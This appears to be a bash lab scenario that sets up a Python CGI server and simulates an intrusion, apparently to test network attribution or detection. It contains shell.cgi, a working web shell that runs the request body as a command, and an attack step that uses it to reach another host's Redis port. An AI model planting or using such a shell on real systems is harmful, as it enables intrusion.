# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2154
# Python's server reads requests in threads and hands the accepted socket to a script as its standard
# input and output. One script is the service's own and asks B too, by the same curl; one is the
# intruder's. Two requests of C are being served meanwhile.
set -euo pipefail

CGI=/srv/web/cgi-bin
mkdir -p "$CGI"
cat >"$CGI/orders.cgi" <<END
#!/bin/sh
printf 'Content-Type: text/plain\n\n'
curl -sS -m 10 http://$IP_B:8080/
END
cat >"$CGI/wait.cgi" <<'END'
#!/bin/sh
printf 'Content-Type: text/plain\n\n'
touch "/tmp/waits-$QUERY_STRING"
until [ -e /tmp/over ]; do sleep 0.2; done
END
cat >"$CGI/shell.cgi" <<'END'
#!/bin/sh
printf 'Content-Type: text/plain\n\n'
sh -c "$(head -c "$CONTENT_LENGTH")" 2>&1
END
chmod 755 "$CGI"/*.cgi

serve B 8080
serve B 6379
background web on H python3 -m http.server --cgi --directory /srv/web 8000
wait_port H 8000

learn() {
	local i
	for ((i = 0; i < LEARN_ROUNDS; i++)); do
		[[ $(on A curl -sS "http://$IP_H:8000/cgi-bin/orders.cgi") == ok ]]
		sleep "$DAY_S"
	done
}

attack() {
	background one on C curl -sS "http://$IP_H:8000/cgi-bin/wait.cgi?one"
	background two on C curl -sS "http://$IP_H:8000/cgi-bin/wait.cgi?two"
	until [[ -e /tmp/waits-one && -e /tmp/waits-two ]]; do sleep 0.1; done
	[[ $(on A curl -sS -w '%{stderr}%{local_ip} %{local_port}\n' --data-binary "curl -sS -m 10 $IP_B:6379" \
		"http://$IP_H:8000/cgi-bin/shell.cgi" 2>"$LAB_ROOT") == ok ]]
	touch /tmp/over
}
